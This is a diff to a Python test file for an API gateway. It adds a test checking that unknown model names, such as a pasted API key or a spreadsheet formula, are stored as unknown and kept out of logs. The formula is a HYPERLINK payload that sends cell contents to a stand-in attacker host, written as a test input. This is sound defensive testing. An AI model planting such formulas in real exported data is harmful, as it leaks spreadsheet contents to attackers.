@@ -9,6 +9,7 @@ from typing import Any
 
 import httpx
 import pytest
+import structlog
 
 from gateway_support import (
     CHAT,
@@ -18,11 +19,12 @@ from gateway_support import (
     chat_body,
     client_for,
     make_gateway,
+    make_key,
     replica,
 )
 from suanwang.domain.limits import KeyLimits, Limits, TenantLimits
 from suanwang.domain.tenancy import Scope
-from suanwang.domain.usage import Outcome
+from suanwang.domain.usage import UNKNOWN_MODEL, Outcome
 
 
 def run(coro: Any) -> Any:
@@ -114,6 +116,32 @@ def test_bad_requests_get_openai_errors_and_one_rejected_record(
     (row,) = sink.rows.values()
     assert row.outcome is Outcome.REJECTED
     assert row.prompt_tokens == row.completion_tokens == 0
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"invoice")'
+
+
+@pytest.mark.parametrize(
+    ("path", "body"),
+    [
+        ("/v1/chat/completions", chat_body()),
+        ("/v1/completions", {"prompt": "hi"}),
+        ("/v1/embeddings", {"input": "hi"}),
+    ],
+)
+def test_a_model_outside_the_catalogue_is_stored_as_unknown_and_never_logged(
+    path: str, body: dict[str, Any], caplog: pytest.LogCaptureFixture
+) -> None:
+    """A formula or a pasted key typed as the model reaches neither the ledger nor the logs."""
+    app, _, sink, key = setup()
+    pasted = make_key()
+    with structlog.testing.capture_logs() as events:
+        for model in (FORMULA, pasted, pasted.removeprefix("sw_")):
+            assert run(post(app, key, path, {**body, "model": model})).status_code == 404
+    assert [row.model for row in sink.rows.values()] == [UNKNOWN_MODEL] * 3
+    stored = repr(list(sink.rows.values())) + repr(events) + caplog.text
+    assert "HYPERLINK" not in stored
+    assert pasted[3:20] not in stored
 
 
 @pytest.mark.parametrize(
